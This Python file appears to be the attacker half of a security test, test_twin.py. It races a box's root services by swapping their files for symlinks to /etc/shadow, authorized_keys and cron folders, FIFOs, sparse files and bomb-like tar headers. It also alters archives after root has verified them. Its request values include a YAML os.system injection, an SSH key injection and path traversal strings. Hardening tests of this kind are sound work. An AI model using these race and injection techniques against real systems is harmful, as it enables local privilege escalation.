"""The attacker of test_twin.py: runs as one of the box's users and replaces all it may write.

Runs in the box, as that user, with Python's standard library only: `twin.py SECONDS SEED LOOT`. In
every folder that the user may write it replaces existing files, and files that root's units look
for, with FIFOs, symlinks, sparse files, folders, sockets and hostile archives, atomically by
renameat2(RENAME_EXCHANGE). LOOT has a genuine and a hostile release, and a genuine and a hostile
system. A user that may hand over archives continues for up to LATEST_S more, until root has been
seen to read ARCHIVES of them. Prints the folders that it found, one a line, and then counts.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import random
import shutil
import socket
import sys
import tarfile
import time
from collections.abc import Callable
from pathlib import Path

RENAME_EXCHANGE = 2  # linux/fs.h
AT_FDCWD = -100
NOT_SEARCHED = ("/proc", "/sys", "/dev/pts", "/dev/mqueue")
# File names that root's units look for.
NAMES = (
    "wanted", "wanted-system", "wanted-setup", "wanted-model", "typed.json", "reset-under-way",
    "model-wanted", "models", "incoming", "memory", "evil.release", "good-0.release", "good.system",
    "evil.system", ".wanted.new", ".typed.json.new", "status.json", "progress.json", "trial",
    "control", "release.json", "interlude.yaml", "lasting.json", "set.json", "mute",
    "warnings.log",
)  # fmt: skip
TARGETS = (  # of symlinks: files that root would damage by a write, chmod or chown through them
    "/etc/shadow", "/etc/passwd", "/root/.ssh/authorized_keys", "/etc/interlude/allowed_signers",
    "/etc/update-motd.d", "/etc/cron.d", "/root", "/opt/interlude", "/opt/interlude/current",
    "/etc/systemd/system", "/etc/canary", "/etc/interlude/secrets/mqtt-password", "/data/keep",
    "/proc/self/mem", "/dev/zero", "/nowhere/at/all", ".", "..",
)  # fmt: skip
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEVWSUwuRVZJTC5FVklMLkVWSUwuRVZJTC5FVklM me"
REQUESTS = (  # contents of files that root reads
    "good-0.release", "evil.release", "good.system", "evil.system", "../../etc/shadow",
    "/etc/shadow", "a" * 4096, "\0", "pocket", "gemma-4-e2b", json.dumps({"ssh_keys": [KEY]}),
    f"ssh_keys: [{KEY}]\n", "hostname: !!python/object/apply:os.system [touch /etc/owned]\n",
)  # fmt: skip
PROGRESS = Path("/run/interlude-release/progress.json")
CURRENT = Path("/opt/interlude/current")
ARCHIVES = 3  # archives that root must start to read
LATEST_S = 60.0  # root's units pause for 5 s after each request
COMES_S = 15.0  # limit until root has taken a request, with that pause and a busy machine
GOES_S = 2.0  # limit from then on until root has read a quarter; otherwise it has refused it
_libc = ctypes.CDLL(None, use_errno=True)


def exchange(one: Path, other: Path) -> None:
    """Exchange two paths atomically. Raises OSError."""
    if _libc.renameat2(AT_FDCWD, bytes(one), AT_FDCWD, bytes(other), RENAME_EXCHANGE) != 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number), str(one))


def folders() -> list[Path]:
    """Every folder in which this user may make files."""
    found = []
    for place, below, _ in os.walk("/", onerror=lambda _: None):
        if place.startswith(NOT_SEARCHED):
            below.clear()
        elif os.access(place, os.W_OK | os.X_OK):
            found.append(Path(place))
    return found


def gone(path: Path) -> None:
    with contextlib.suppress(OSError):
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path, ignore_errors=True)
        else:
            path.unlink(missing_ok=True)


def things(loot: Path, chance: random.Random) -> dict[str, Callable[[Path], object]]:
    """What the attacker puts at a path: name → function that creates it."""

    def sparse(path: Path) -> None:
        with path.open("wb") as file:
            file.truncate(1 << 40)

    def folder(path: Path) -> None:
        path.mkdir()
        (path / "canary").write_text("x")

    def endless_header(path: Path) -> None:
        """A pax header that claims 6 GB, in a sparse file that takes 4 KiB on the disk."""
        head = bytearray(512)
        head[0:12] = b"release.json"
        head[100:108] = b"0000644\0"
        head[124:136] = b"55363100000\0"
        head[148:156] = b" " * 8
        head[156:157] = b"x"
        head[257:265] = b"ustar\x0000"
        head[148:156] = b"%06o\0 " % sum(head)
        path.write_bytes(bytes(head))
        os.truncate(path, 6 << 30)

    def wired(path: Path) -> None:
        with socket.socket(socket.AF_UNIX) as wire:
            wire.bind(str(path)[-100:])

    def secret(path: Path) -> None:
        path.write_text("wanted\n")
        path.chmod(0)

    def ask(path: Path) -> None:
        path.write_text(chance.choice(REQUESTS))

    def link(target: str) -> Callable[[Path], object]:
        return lambda path: path.symlink_to(target)

    def take(name: str) -> Callable[[Path], object]:
        return lambda path: shutil.copyfile(loot / name, path)

    made: dict[str, Callable[[Path], object]] = {
        "fifo": os.mkfifo, "sparse": sparse, "folder": folder, "header": endless_header,
        "socket": wired, "secret": secret, "ask": ask, "empty": Path.touch,
        "loop": lambda path: path.symlink_to(path.name),
    }  # fmt: skip
    made |= {f"link {target}": link(target) for target in TARGETS}
    made |= {f"loot {file.name}": take(file.name) for file in sorted(loot.iterdir())}
    return made


class Twin:
    """One attack, for a limited time."""

    def __init__(self, seconds: float, seed: int, loot: Path) -> None:
        self._until = time.monotonic() + seconds
        self._chance = random.Random(seed)  # noqa: S311  # no secret
        self._loot = loot
        self._things = things(loot, self._chance)
        self.folders = folders()
        self._incoming = [place for place in self.folders if place.name.endswith("incoming")]
        self.done = 0
        self.read = 0  # archives that root started to read

    @property
    def _over(self) -> bool:
        waits = bool(self._incoming) and self.read < ARCHIVES
        return time.monotonic() > self._until + (LATEST_S if waits else 0.0)

    def run(self) -> None:
        while not self._over:
            for place in self._incoming:  # restore what the attack itself has replaced
                with contextlib.suppress(OSError):
                    if not place.is_dir() or place.is_symlink():
                        gone(place)
                        place.mkdir()
            with contextlib.suppress(OSError, UnicodeError):
                if self._incoming and self._chance.random() < 0.1:
                    place = self._chance.choice(self._incoming)
                    kind = self._chance.choice(["release", "system"])
                    self.read += self._change_while_it_is_read(place, kind)
                else:
                    self._swap(self._chance.choice(self.folders))
                self.done += 1

    def _swap(self, place: Path) -> None:
        """Replace one name of a folder with something else, and perhaps restore it."""
        there = [path.name for path in place.iterdir()]
        name = self._chance.choice([*NAMES, *there])
        target, fresh = place / name, place / f".twin-{os.getpid()}"
        gone(fresh)
        self._things[self._chance.choice(list(self._things))](fresh)
        if os.path.lexists(target):
            exchange(fresh, target)
            time.sleep(self._chance.choice([0, 0, 0.001, 0.02, 0.2]))
            if target in self.folders or self._chance.random() < 0.6:
                exchange(fresh, target)
        else:
            fresh.rename(target)
            time.sleep(self._chance.choice([0, 0.001, 0.05]))
            if self._chance.random() < 0.5:
                gone(target)
        gone(fresh)

    def _change_while_it_is_read(self, place: Path, kind: str) -> bool:
        """Request a genuine archive, and change a part of it once root has verified that part.

        Root opens the archive itself, a symlink to it that replaces a file after root's first
        check, or a FIFO that blocks root until the symlink is in place. Returns whether root was
        seen to read.
        """
        mine, file = place / f"mine-{os.getpid()}.{kind}", place / f"other.{kind}"
        gone(mine)
        gone(file)
        source = self._loot / "good.system"
        if kind == "release":
            source = self._loot / f"good-{_newer()}.release"
        shutil.copyfile(source, mine)
        way = self._chance.choice(["itself", "itself", "link", "fifo"])
        asked = mine if way == "itself" else file
        if way == "link":
            file.touch()
        elif way == "fifo":
            os.mkfifo(file)
        note = self._ask(place, kind, asked.name)
        if way != "itself":
            link = place / f".link-{os.getpid()}"
            gone(link)
            link.symlink_to(mine)
            end = self._reader_of(file) if way == "fifo" else None
            exchange(link, file)
            if end is not None:
                os.close(end)
            gone(link)
        steps = {"verify"} if kind == "release" else {"verify", "write"}
        reads = self._wait_for_step(note, steps, 0.25)
        with mine.open("r+b") as archive, tarfile.open(fileobj=archive) as inside:
            if kind == "release":
                archive.seek(inside.getmember("tree.tar.gz").offset_data)
                archive.write((self._loot / "evil.tree").read_bytes())
            else:
                archive.seek(-700, os.SEEK_END)
                archive.write(b"evil" * 8)
        time.sleep(self._chance.choice([0.1, 1.0]))
        return reads

    def _ask(self, place: Path, kind: str, name: str) -> Path:
        note = place / ("wanted" if kind == "release" else "wanted-system")
        gone(note)
        note.write_text(name)
        return note

    def _reader_of(self, fifo: Path) -> int | None:
        """Wait until a process opens the FIFO for reading; None if that does not happen in 3 s."""
        limit = time.monotonic() + 3
        while time.monotonic() < limit:
            with contextlib.suppress(OSError):
                return os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
            time.sleep(0.002)
        return None

    def _wait_for_step(self, note: Path, steps: set[str], share: float) -> bool:
        """Wait until root's progress is in `steps` with `share`; False on a timeout."""
        limit = time.monotonic() + COMES_S
        taken = False
        while time.monotonic() < limit:
            with contextlib.suppress(OSError, ValueError, KeyError):
                said = json.loads(PROGRESS.read_bytes())
                if said["step"] in steps and said["share"] >= share:
                    return True
            if not taken and not os.path.lexists(note):
                taken, limit = True, time.monotonic() + GOES_S
            time.sleep(0.0005)
        return False


def _newer() -> int:
    """The number of the first genuine release (0.2.NUMBER) newer than the installed one."""
    with contextlib.suppress(OSError):
        version = CURRENT.readlink().name
        if version.startswith("0.2."):
            return min(int(version.removeprefix("0.2.")) + 1, 5)
    return 0


def main() -> None:
    twin = Twin(float(sys.argv[1]), int(sys.argv[2]), Path(sys.argv[3]))
    print("\n".join(map(str, twin.folders)), flush=True)
    twin.run()
    print(f"swaps {twin.done}", flush=True)
    print(f"read {twin.read}", flush=True)


if __name__ == "__main__":
    main()
